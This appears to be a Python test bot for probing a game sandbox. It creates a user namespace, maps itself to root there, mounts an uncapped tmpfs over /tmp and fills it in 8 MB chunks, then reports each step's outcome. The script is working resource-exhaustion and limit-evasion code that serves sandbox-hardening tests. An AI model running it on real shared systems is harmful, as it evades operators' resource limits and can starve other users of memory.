#!/usr/bin/env python3
"""Attack: make a user namespace, become its root, and mount a tmpfs of its own
(no size cap) over /tmp.

At startup a child process calls ``unshare(CLONE_NEWUSER | CLONE_NEWNS)``, maps
itself to root in the new namespace, mounts a fresh tmpfs on /tmp and writes
up to ``MB`` megabytes into it (files of 8 MB, under the file size limit).  It
reports each step's outcome and how much it wrote, then the bot plays randomly.
"""

import ctypes
import os
import sys

from _common import outcome, play, report

MB = int(sys.argv[1]) if len(sys.argv) > 1 else 100
CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x00020000
libc = ctypes.CDLL(None, use_errno=True)


def checked(result: int) -> None:
    if result != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))


def write_file(path: str, text: str) -> None:
    with open(path, "w") as f:
        f.write(text)


def fill(folder: str) -> int:
    written = 0
    chunk = b"\x5a" * (1024 * 1024)
    try:
        while written < MB:
            with open(os.path.join(folder, f"fill-{written}"), "wb") as f:
                for _ in range(8):
                    f.write(chunk)
                    written += 1
    except OSError:
        pass
    return written


def in_child() -> None:
    uid, gid = os.getuid(), os.getgid()
    steps = {"unshare": outcome(lambda: checked(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)))}
    if steps["unshare"] == "ok":
        steps["setgroups"] = outcome(lambda: write_file("/proc/self/setgroups", "deny"))
        steps["uid_map"] = outcome(lambda: write_file("/proc/self/uid_map", f"0 {uid} 1"))
        steps["gid_map"] = outcome(lambda: write_file("/proc/self/gid_map", f"0 {gid} 1"))
        steps["mount"] = outcome(lambda: checked(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
    written = fill("/tmp") if steps.get("mount") == "ok" else 0
    report(attack="userns", steps=steps, uid_inside=os.getuid(), written_mb=written)


def attack() -> None:
    pid = os.fork()
    if pid == 0:
        try:
            in_child()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


if __name__ == "__main__":
    play("makes-user-namespace", attack)
